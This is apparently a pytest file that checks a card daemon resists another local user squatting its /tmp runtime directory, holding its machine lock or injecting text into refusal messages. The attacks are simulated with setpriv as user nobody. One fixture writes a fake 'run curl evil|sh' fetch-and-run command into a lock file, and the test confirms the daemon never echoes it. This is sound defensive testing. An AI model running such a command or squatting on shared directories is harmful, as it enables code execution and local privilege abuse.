"""
Other users of the same machine (issue 11, point 6). The attacker is a
second local user — ``nobody`` here (the tests run as root, as CI does; the
attacker's steps run under ``setpriv --reuid 65534``) — who can write where
every user can (/tmp and its like) but nowhere else.

Before: the card used ``/tmp/vsc-UID`` even when another user had created
it (that user swapped the control socket and received a ``data put`` secret
in clear), and its machine lock was a 0666 file any user could hold,
stopping every card on the machine, with a refusal that printed what that
user wrote into it.

Now (vsc/card/paths.py, vsc/card/machine.py): the runtime directory
($XDG_RUNTIME_DIR/vsc, else $TMPDIR/vsc-UID) must be a real directory owned
by the user with mode 0700, or the card daemon and the CLI refuse it with one
line and use nothing in it; the machine lock is ``machine.lock``, 0600, in
that directory, so no other user can open it, and a refusal shows a pid only
when the file holds nothing but digits.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import tempfile
import textwrap
from pathlib import Path

import pytest

from tests.integration import missing
from tests.servers import TWISTD, VSC, _env
from vsc.card import config as cc
from vsc.card import paths
from vsc.card.machine import LOCK_NAME, MachineLock, MachineLockHeld

NOBODY = 65534
SYSTEM_PYTHON = "/usr/bin/python3"


def as_nobody(code: str) -> subprocess.CompletedProcess:
    """Run ``code`` in the system Python as user nobody (another local user, with no rights of ours)."""
    if os.geteuid() != 0 or shutil.which("setpriv") is None or not os.path.exists(SYSTEM_PYTHON):
        missing("acting as a second local user needs root, setpriv(1) and /usr/bin/python3")
    return subprocess.run(["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", SYSTEM_PYTHON,
                           "-c", textwrap.dedent(code)], capture_output=True, text=True, timeout=30)


@pytest.fixture
def shared_tmp():
    """A short /tmp-like directory (mode 1777: every user may create in it; sticky) as TMPDIR."""
    d = Path(tempfile.mkdtemp(prefix="vsc-lu-", dir="/tmp"))
    os.chmod(d, 0o1777)
    try:
        yield d
    finally:
        shutil.rmtree(d, ignore_errors=True)


def _env_for(tmpdir: Path | None = None, xdg: Path | None = None) -> dict:
    env = _env()
    env.pop("XDG_RUNTIME_DIR", None)
    env.pop("VSC_LOCK_DIR", None)
    if tmpdir is not None:
        env["TMPDIR"] = str(tmpdir)
    if xdg is not None:
        env["XDG_RUNTIME_DIR"] = str(xdg)
    return env


def _home(tmp_path: Path) -> Path:
    home = tmp_path / "home"
    cc.save(home, server="tcp:127.0.0.1:9", server_key="SHA256:x", serial="local-1")
    return home


def _one_line(proc) -> str:
    lines = [x for x in proc.stderr.splitlines() if x.strip()]
    assert proc.returncode != 0 and len(lines) == 1, (proc.returncode, proc.stdout, proc.stderr)
    assert "Traceback" not in proc.stderr and "Error" not in lines[0], lines
    return lines[0]


def _daemon(home: Path, env: dict, tmp_path: Path) -> subprocess.CompletedProcess:
    """A real ``twistd -n vsc-card`` for ``home`` (it must refuse before it connects anywhere)."""
    pw = tmp_path / "pw"
    pw.write_text("password\n")
    return subprocess.run([str(TWISTD), "-n", "--pidfile=", "--logfile=" + str(tmp_path / "card.log"), "vsc-card",
                           "--home", str(home), "--password-file", str(pw), "--no-ssh-agent"],
                          env=env, capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL,
                          cwd=tmp_path)


def test_a_runtime_directory_made_by_another_user_is_refused_and_never_used(tmp_path, shared_tmp):
    """
    The attack: nobody creates TMPDIR/vsc-0 (mode 0777) before the owner's
    card starts. The card daemon refuses to start with one line naming the
    directory and its owner, creating no socket or lock there; ``vsc card
    status`` refuses the same way (it never connects to a socket in it).
    """
    squatted = shared_tmp / f"vsc-{os.getuid()}"
    made = as_nobody(f"import os; os.mkdir({str(squatted)!r}); os.chmod({str(squatted)!r}, 0o777)")
    assert made.returncode == 0, made.stderr
    assert squatted.stat().st_uid == NOBODY
    home = _home(tmp_path)
    env = _env_for(tmpdir=shared_tmp)
    line = _one_line(_daemon(home, env, tmp_path))
    assert f"{squatted} belongs to user nobody (uid {NOBODY}), not to you: vsc will not use it" in line, line
    assert os.listdir(squatted) == []  # no control socket, no ssh-agent socket, no machine lock
    line = _one_line(subprocess.run([str(VSC), "card", "--home", str(home), "status"], env=env, capture_output=True,
                                    text=True, timeout=60))
    assert "belongs to user nobody" in line, line


@pytest.mark.parametrize("kind", ["symlink", "mode 0755", "not a directory"])
def test_a_runtime_directory_that_others_could_reach_into_is_refused(tmp_path, shared_tmp, kind):
    """Our own TMPDIR/vsc-0 as a symlink (to a 0700 dir of ours), with mode 0755, or a file: refused, one line, not repaired."""
    rt = shared_tmp / f"vsc-{os.getuid()}"
    if kind == "symlink":
        target = shared_tmp / "elsewhere"
        target.mkdir(mode=0o700)
        rt.symlink_to(target)
        needle = "is a symbolic link"
    elif kind == "mode 0755":
        rt.mkdir()
        rt.chmod(0o755)
        needle = "has mode 0755; it must be 0700"
    else:
        rt.write_text("")
        needle = "is not a directory"
    home = _home(tmp_path)
    line = _one_line(_daemon(home, _env_for(tmpdir=shared_tmp), tmp_path))
    assert needle in line, line
    if kind == "mode 0755":
        assert (rt.stat().st_mode & 0o777) == 0o755 and os.listdir(rt) == []  # not chmodded, not used


def test_xdg_runtime_dir_is_preferred_and_must_be_the_users_own(tmp_path, shared_tmp):
    """
    With XDG_RUNTIME_DIR set, the card's directory is XDG_RUNTIME_DIR/vsc
    (created 0700); an XDG_RUNTIME_DIR owned by another user is refused.
    """
    xdg = Path(tempfile.mkdtemp(prefix="vsc-xdg-", dir="/tmp"))
    try:
        old = dict(os.environ)
        os.environ.update(_env_for(xdg=xdg))
        os.environ.pop("VSC_LOCK_DIR", None)
        try:
            assert paths.runtime_dir() == str(xdg / "vsc")
            assert paths.check_runtime_dir(create=True) == str(xdg / "vsc")
            assert (xdg / "vsc").stat().st_mode & 0o777 == 0o700
            theirs = shared_tmp / "theirs"
            assert as_nobody(f"import os; os.mkdir({str(theirs)!r}, 0o700)").returncode == 0
            os.environ["XDG_RUNTIME_DIR"] = str(theirs)
            with pytest.raises(paths.UnsafeDirectory, match="belongs to user nobody"):
                paths.check_runtime_dir(create=True)
        finally:
            os.environ.clear()
            os.environ.update(old)
    finally:
        shutil.rmtree(xdg, ignore_errors=True)


def test_no_other_user_can_hold_or_read_the_machine_lock(tmp_path):
    """
    The owner's lock is XDG_RUNTIME_DIR/vsc/machine.lock, mode 0600, in a 0700
    directory: nobody can neither open it (so cannot hold it) nor read it;
    nobody's own lock (in nobody's own runtime directory) is held at the same
    time as the owner's, so holding a lock stops no one else's card.
    """
    xdg = Path(tempfile.mkdtemp(prefix="vsc-xdg-", dir="/tmp"))
    theirs = Path(tempfile.mkdtemp(prefix="vsc-xdg-", dir="/tmp"))
    os.chown(theirs, NOBODY, NOBODY)
    old = dict(os.environ)
    try:
        os.environ.pop("VSC_LOCK_DIR", None)
        os.environ["XDG_RUNTIME_DIR"] = str(xdg)
        lock = MachineLock()
        lock.acquire()
        path = xdg / "vsc" / LOCK_NAME
        assert lock.held and path.exists() and path.stat().st_mode & 0o777 == 0o600
        tried = as_nobody(f"""
            import fcntl, os
            try:
                fd = os.open({str(path)!r}, os.O_RDWR)
            except PermissionError:
                print("denied")
            # nobody's own lock, like the card's: a 0600 file in its own 0700 directory
            d = os.path.join({str(theirs)!r}, "vsc"); os.mkdir(d, 0o700)
            fd = os.open(os.path.join(d, {LOCK_NAME!r}), os.O_RDWR | os.O_CREAT, 0o600)
            fcntl.lockf(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
            print("own lock held")
        """)
        assert tried.stdout.split() == ["denied", "own", "lock", "held"], (tried.stdout, tried.stderr)
        assert lock.held
        lock.release()
        lock.acquire()  # the owner's lock is still the owner's to take
        lock.release()
    finally:
        os.environ.clear()
        os.environ.update(old)
        shutil.rmtree(xdg, ignore_errors=True)
        shutil.rmtree(theirs, ignore_errors=True)


def test_a_lock_directory_others_may_write_is_refused(tmp_path, shared_tmp):
    """VSC_LOCK_DIR that every user may write (1777, like /tmp): one line, no lock file made there."""
    with pytest.raises(MachineLockHeld) as e:
        MachineLock(str(shared_tmp)).acquire()
    assert "has mode 1777" in str(e.value) and "\n" not in str(e.value)
    assert not (shared_tmp / LOCK_NAME).exists()


def test_the_refusal_never_echoes_what_the_lock_file_holds(tmp_path):
    """
    A held lock whose file holds text (escape sequences, a fake message) is
    refused with a line that shows none of it; a file of digits shows the pid.
    """
    lock_dir = tmp_path / "lock"
    holder = subprocess.Popen([sys.executable, "-c", textwrap.dedent(f"""
        import os, sys, time
        from vsc.card.machine import MachineLock
        MachineLock({str(lock_dir)!r}).acquire()
        print("locked", flush=True)
        sys.stdin.readline()
    """)], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, cwd=Path(__file__).resolve().parents[2])
    try:
        assert holder.stdout.readline().strip() == "locked"
        with pytest.raises(MachineLockHeld, match=rf"\(pid {holder.pid}\)$"):
            MachineLock(str(lock_dir)).acquire()
        (lock_dir / LOCK_NAME).write_bytes(b"\x1b[31mYOUR CARD IS COMPROMISED, run curl evil|sh\n")
        with pytest.raises(MachineLockHeld) as e:
            MachineLock(str(lock_dir)).acquire()
        text = str(e.value)
        assert "COMPROMISED" not in text and "\x1b" not in text and "pid" not in text
        assert text == f"another card process holds this machine's lock {lock_dir / LOCK_NAME}"
    finally:
        holder.stdin.close()
        holder.wait(10)
